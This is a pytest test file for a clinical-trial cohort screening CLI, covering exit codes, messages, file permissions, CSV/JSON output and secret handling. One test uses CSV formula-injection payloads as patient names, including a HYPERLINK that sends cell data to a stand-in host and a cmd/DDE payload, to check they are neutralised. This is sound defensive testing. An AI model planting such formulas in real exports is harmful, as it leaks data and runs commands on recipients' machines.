"""``fhir-cohort screen`` (``fhir_cohort.cli.main``): exit codes, messages and output files.

cli.py documents: 0 done; 2 unusable input (missing path, unknown trial, bad date, bad
trial definition), as a one-line message on stderr; outputs written owner-only (0600).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import stat
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
from builders import condition, observation, patient, quantity, sle

from fhir_cohort.cli import main
from fhir_cohort.outputs.candidates import CSV_COLUMNS

AS_OF = "2026-06-30"


@pytest.fixture(scope="module")
def cohort_run(tmp_path_factory) -> dict:
    """One run over the bundled cohort (the default source), stdout captured."""
    out = tmp_path_factory.mktemp("cli") / "out"
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = main(["screen", "--as-of", AS_OF, "--out", str(out)])
    return {"code": code, "out": out, "stdout": stdout.getvalue()}


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with path.open(newline="", encoding="utf-8") as stream:
        reader = csv.DictReader(stream)
        return list(reader.fieldnames or []), list(reader)


def test_bundled_cohort_exits_0_and_prints_summary(cohort_run, expected):
    assert cohort_run["code"] == 0
    stdout = cohort_run["stdout"]
    assert stdout.startswith(f"fhir-cohort: misle as of {AS_OF}\n")
    statuses = Counter(case["status"] for case in expected["patients"].values())
    assert (
        "  ".join(
            f"{s}: {statuses[s]}"
            for s in ("eligible", "washout", "needs-review", "excluded", "not-a-candidate")
        )
        in stdout
    )
    assert f"wrote {cohort_run['out']}/report.html, candidates.json" in stdout


@pytest.mark.parametrize("name", ["candidates.json", "candidates.csv", "report.html", "group.json"])
def test_output_files_are_owner_only(cohort_run, name):
    path = cohort_run["out"] / name
    assert path.is_file()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    # no temporary file left beside it
    assert stat.S_IMODE(cohort_run["out"].stat().st_mode) == 0o700
    assert sorted(p.name for p in cohort_run["out"].iterdir()) == [
        "candidates.csv",
        "candidates.json",
        "group.json",
        "report.html",
    ]


def test_csv_agrees_with_json(cohort_run, expected):
    data = json.loads((cohort_run["out"] / "candidates.json").read_text())
    header, rows = read_csv(cohort_run["out"] / "candidates.csv")
    assert header == list(CSV_COLUMNS)
    listed = [p for p, case in expected["patients"].items() if case["status"] != "not-a-candidate"]
    assert len(rows) == len(data["candidates"]) == len(listed)
    for row, candidate in zip(rows[:3], data["candidates"][:3], strict=True):
        assert row["record_id"] == candidate["patient"]
        assert row["screen_status"] == candidate["status"]
        assert int(row["screen_rank"]) == candidate["rank"]
        assert int(row["rank_score"]) == candidate["score"]
        assert row["screen_as_of"] == data["as_of"] == AS_OF
    assert rows[0]["screen_rank"] == "1"
    assert [int(r["screen_rank"]) for r in rows] == list(range(1, len(rows) + 1))


def test_csv_column_names_are_redcap_field_names():
    """REDCap variable names: lower case letters, digits and underscores, starting with a
    letter, at most 26 characters (REDCap's recommended limit), the record id first."""
    assert CSV_COLUMNS[0] == "record_id"
    assert len(set(CSV_COLUMNS)) == len(CSV_COLUMNS)
    for column in CSV_COLUMNS:
        assert re.fullmatch(r"[a-z][a-z0-9_]{0,25}", column), column
        assert not column.startswith("redcap_"), column  # REDCap's reserved prefix


def test_missing_source_exits_2_with_one_line(tmp_path, capsys):
    missing = tmp_path / "no-such-export"
    code = main(["screen", "--source", str(missing), "--as-of", AS_OF, "--out", str(tmp_path)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.out == ""
    assert captured.err == f"fhir-cohort: error: source {missing} does not exist\n"
    assert not (tmp_path / "candidates.json").exists()


def test_unknown_trial_exits_2_with_one_line(tmp_path, capsys):
    code = main(["screen", "--trial", "nosuchtrial", "--as-of", AS_OF, "--out", str(tmp_path)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err == (
        "fhir-cohort: error: unknown trial 'nosuchtrial'; known trials: misle, surpass2\n"
    )
    assert captured.out == ""


def test_bad_trial_definition_exits_2(tmp_path, capsys):
    bad = tmp_path / "bad.yaml"
    bad.write_text("trial: [unclosed\n")
    code = main(["screen", "--trial", str(bad), "--as-of", AS_OF, "--out", str(tmp_path)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith(f"fhir-cohort: error: {bad.name}:2: not valid YAML")


@pytest.mark.parametrize("bad", ["2026-13-01", "30/06/2026", "tomorrow"])
def test_bad_as_of_exits_2_via_argparse(tmp_path, capsys, bad):
    with pytest.raises(SystemExit) as raised:
        main(["screen", "--as-of", bad, "--out", str(tmp_path)])
    assert raised.value.code == 2
    err = capsys.readouterr().err
    assert err.strip().splitlines()[-1] == (
        f"fhir-cohort screen: error: argument --as-of: --as-of must be a date as "
        f"YYYY-MM-DD, not '{bad}'"
    )


def _small_export(folder: Path, name: str) -> Path:
    """One listed lupus patient whose name comes from the data."""
    folder.mkdir(parents=True, exist_ok=True)
    resources = [
        patient("p-name", name=[{"text": name}]),
        sle(pid="p-name"),
        condition("c-arthritis", "http://snomed.info/sct", "3723001", pid="p-name"),
        observation(
            "o-plt", "777-3", "2026-06-01", pid="p-name", valueQuantity=quantity(80, "K/uL")
        ),
    ]
    path = folder / "export.ndjson"
    path.write_text("".join(json.dumps(r) + "\n" for r in resources))
    return path


def test_quiet_prints_nothing_on_stdout(tmp_path, capsys):
    source = _small_export(tmp_path / "src", "Quiet Person")
    out = tmp_path / "out"
    code = main(["screen", "--source", str(source), "--as-of", AS_OF, "--out", str(out), "--quiet"])
    captured = capsys.readouterr()
    assert code == 0
    assert captured.out == ""
    assert captured.err == ""
    data = json.loads((out / "candidates.json").read_text())
    assert [(c["patient"], c["status"]) for c in data["candidates"]] == [("p-name", "needs-review")]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ],
)
def test_csv_formula_in_patient_name_is_neutralised(tmp_path, name):
    """A cell from the data that a spreadsheet would run as a formula is prefixed with '."""
    source = _small_export(tmp_path / "src", name)
    out = tmp_path / "out"
    assert (
        main(["screen", "--source", str(source), "--as-of", AS_OF, "--out", str(out), "--quiet"])
        == 0
    )
    _, rows = read_csv(out / "candidates.csv")
    assert [r["record_id"] for r in rows] == ["p-name"]
    assert rows[0]["patient_name"] == "'" + name
    # the JSON keeps the data as it was
    data = json.loads((out / "candidates.json").read_text())
    assert data["candidates"][0]["name"] == name


def test_unexpected_failure_exits_1_with_one_line(tmp_path, capsys, monkeypatch):
    """A bug must not print a wall of traceback at 3 a.m.: one line, exit code 1."""
    import fhir_cohort.cli as cli
    import fhir_cohort.commands.screen as command

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(command, "engine", broken)
    monkeypatch.delenv("FHIR_COHORT_DEBUG", raising=False)
    code = cli.main(["screen", "--as-of", "2026-06-30", "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 1
    assert len(err) == 1 and "RuntimeError: boom" in err[0]


@pytest.mark.parametrize("option", ["--token", "--password", "--client-secret"])
def test_no_option_takes_a_secret_on_the_command_line(option, capsys):
    """Secrets come from environment variables or files: a command line shows in `ps`."""
    with pytest.raises(SystemExit) as stop:
        main(["screen", "--server", "http://127.0.0.1:9/fhir", option, "s3cret"])
    assert stop.value.code == 2
    assert "unrecognized arguments" in capsys.readouterr().err


def test_bearer_token_from_missing_env_var_is_a_usage_error(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("FHIR_COHORT_TOKEN", raising=False)
    code = main(
        [
            "screen",
            "--server",
            "http://127.0.0.1:9/fhir",
            "--auth",
            "bearer",
            "--out",
            str(tmp_path),
        ]
    )
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and "FHIR_COHORT_TOKEN" in err[0]


def test_seed_refuses_without_yes_and_says_what_and_where(capsys):
    code = main(["seed", "--server", "http://127.0.0.1:9/fhir"])
    err = capsys.readouterr().err
    assert code == 2
    assert "http://127.0.0.1:9/fhir" in err and "--yes" in err and "misle-cohort" in err


def _loaded(module: str) -> set[str]:
    """The top-level packages a fresh interpreter holds after importing ``module``."""
    code = f"import sys, {module}; print(' '.join({{m.split('.')[0] for m in sys.modules}}))"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    return set(found.stdout.split())


HTTP_STACK = {"requests", "urllib3", "jwt", "cryptography"}
HEAVY = {"fhir", "pyspark", "pydantic", "jinja2", "flask", *HTTP_STACK}


def test_help_loads_no_heavy_package():
    """`fhir-cohort --help` and argument errors import nothing heavy: start-up is
    interpreter start plus argparse (bench/scale.py times it)."""
    assert _loaded("fhir_cohort.cli") & HEAVY == set()


def test_a_screen_of_files_loads_no_http_stack_and_no_fhir_models():
    """A screen of files never loads the HTTP stack, the SMART cryptography, the FHIR
    models or Spark (they are imported by the commands and engines that use them)."""
    assert _loaded("fhir_cohort.commands.screen") & (HTTP_STACK | {"fhir", "pyspark"}) == set()
